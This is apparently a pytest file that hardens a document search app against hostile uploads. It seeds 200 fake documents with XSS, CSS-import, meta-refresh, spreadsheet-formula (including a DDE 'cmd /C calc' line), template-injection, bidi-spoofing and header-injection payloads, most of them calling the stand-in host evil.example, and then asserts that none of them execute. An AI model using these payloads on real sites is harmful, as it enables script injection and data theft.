"""Two hundred hostile documents: no script of theirs runs and no request leaves."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product
from pathlib import Path

import pytest
from playwright import sync_api

from ingest.types import Metadata
from mmsearch.api.app import create_app
from mmsearch.links import document_link
from mmsearch.packs.store import PackStore
from mmsearch.settings import load_settings
from tests.service.browsing import Visit, chromium_browser, serving, visiting
from tests.service.conftest import client_of
from tests.service.fake import FakeDocument, FakeKnowledge, make_document

HACK = "window.hacked=1;fetch('https://evil.example/')"
ATTACKS = [
    f"<script>{HACK}</script>",
    f"</script><script>{HACK}</script>",
    f'<img src=x onerror="{HACK}">',
    f"<svg/onload={HACK}>",
    f'"><iframe srcdoc="<script>parent.{HACK}</script>">',
    f'<a href="javascript:{HACK}">harbour</a>',
    f"[harbour](javascript:{HACK})",
    f"<style>@import 'https://evil.example/x.css'</style><b style=\"x:expression({HACK})\">",
    "<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example/>",
    f'<details open ontoggle={HACK}><math><mi xlink:href="data:x,<script>{HACK}</script>">',
    "\u202egnp.exe\u2066 \u202dharbour\u202c\u2069 \u200f",
    '=HYPERLINK("https://evil.example/","harbour")',
    "+cmd|' /C calc'!A0\t@SUM(1+1)*cmd|' /C calc'!A0",
    f"${{{HACK}}} {{{{constructor.constructor('{HACK}')()}}}} `${{{HACK}}}`",
    f"%3Cscript%3E{HACK}%3C/script%3E &lt;script&gt;{HACK}&lt;/script&gt;",
    f"\U0001f6a2\ufffd]]><!--<script>{HACK}</script>-->",
    "<form action=https://evil.example/><button>harbour</button></form>",
    f'<object data="data:text/html,<script>{HACK}</script>"><embed src=javascript:{HACK}>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "a\u0300" * 40 + "\u0000\u0007\u001b[31m\r\nSet-Cookie: a=b",
]
ENDS = [".html", ".svg", ".md", ".txt", ".xml", ".docx.html", ".HTM", "", ".xhtml", ".csv"]
N_DOCUMENTS = 200


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> list[FakeDocument]:
    folder = tmp_path_factory.mktemp("hostile")
    return [_hostile(folder, n, *one) for n, one in enumerate(_pairs())]


def _pairs() -> Iterator[tuple[str, str]]:
    return islice(product(ATTACKS, ENDS), N_DOCUMENTS)


def _hostile(folder: Path, number: int, attack: str, end: str) -> FakeDocument:
    name = attack.replace("/", "\u2215").replace("\0", "")[:90] + end
    metadata = Metadata(
        title=f"{attack} {number}",
        year=2024,
        kind=attack[:60],
        languages=("en",),
        countries=(attack[:40],),
        publisher=(attack[:50],),
    )
    text = (f"The harbour fund {attack}", "paid for the quay.")
    return make_document(folder, f"d-{number}", name, ((text,),), metadata)


@pytest.fixture(scope="module")
def home(hostile: list[FakeDocument], tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    packs = PackStore(tmp_path_factory.mktemp("packs"))
    with serving(create_app(FakeKnowledge(hostile), load_settings(), packs=packs)) as where:
        yield where


def harmless(visit: Visit, home: str) -> None:
    assert visit.page.evaluate("window.hacked") is None
    assert visit.elsewhere(home) == []
    assert visit.wrong() == []
    strange = "#result :is(script, iframe, object, embed, style, form:not(.follow-up), base, meta)"
    assert visit.page.locator(strange).count() == 0
    assert visit.page.locator("a[href^='javascript']").count() == 0


@pytest.mark.browser
def test_no_view_of_a_hostile_document_runs_or_asks_anything(chromium: str, home: str) -> None:
    with chromium_browser(chromium) as browser, visiting(browser) as visit:
        page: sync_api.Page = visit.page
        page.on("dialog", lambda dialog: pytest.fail(dialog.message))
        page.goto(f"{home}?list=documents")
        for shown in range(50, N_DOCUMENTS, 50):
            sync_api.expect(page.locator(".hits > li")).to_have_count(shown)
            page.get_by_role("button", name="More documents").click()
        sync_api.expect(page.locator(".hits > li")).to_have_count(N_DOCUMENTS)
        while page.locator("#facets button.plain").count():
            page.locator("#facets button.plain").first.click()
        harmless(visit, home)
        page.goto(f"{home}?q=harbour+fund+quay")
        page.get_by_role("button", name="More passages").click()
        sync_api.expect(page.locator(".passage")).to_have_count(50)
        page.fill("#q", "harbou")
        page.locator("#q").press_sequentially("r")
        page.wait_for_selector("[role=option]")
        harmless(visit, home)
        for number in range(0, N_DOCUMENTS, len(ENDS)):
            page.goto(document_link(f"d-{number}", passage_id=f"d-{number}.0", base=home))
            page.locator("#reader-body mark").first.wait_for()
            assert page.locator(".reading-view :is(script, img, a, iframe, svg)").count() == 0
            harmless(visit, home)


def test_no_hostile_file_opens_in_a_browser_and_no_name_breaks_a_header(
    hostile: list[FakeDocument],
) -> None:
    with client_of(create_app(FakeKnowledge(hostile), load_settings())) as client:
        for document in hostile:
            response = client.get(f"/documents/{document.stored.doc_id}/file")
            assert response.status_code == 200
            headers = response.headers
            assert headers["content-disposition"].startswith("attachment; ")
            assert "sandbox" in headers["content-security-policy"]
            assert headers["x-content-type-options"] == "nosniff"
            media = headers["content-type"]
            assert media.startswith(("text/plain", "application/octet-stream"))
            assert "set-cookie" not in headers


@pytest.mark.parametrize("form", ["docx", "pdf", "md", "pptx"])
def test_hostile_snippets_can_be_exported(
    hostile: list[FakeDocument], tmp_path: Path, form: str
) -> None:
    app = create_app(FakeKnowledge(hostile), load_settings(), packs=PackStore(tmp_path))
    with client_of(app) as client:
        chosen = hostile[:: len(ENDS)]
        snippets = [{"doc_id": d.stored.doc_id, "start": 0, "end": len(d.text)} for d in chosen]
        body = {"name": "<script>x</script>\u202e/..", "snippets": snippets}
        pack = client.post("/packs", json=body).json()
        response = client.get(f"/packs/{pack['pack_id']}/export?as={form}")
        assert response.status_code == 200, response.text
        assert "/" not in response.headers["content-disposition"].partition("filename*")[0]
        if form == "md":
            assert "<script" not in response.text.replace("\\<script", "")
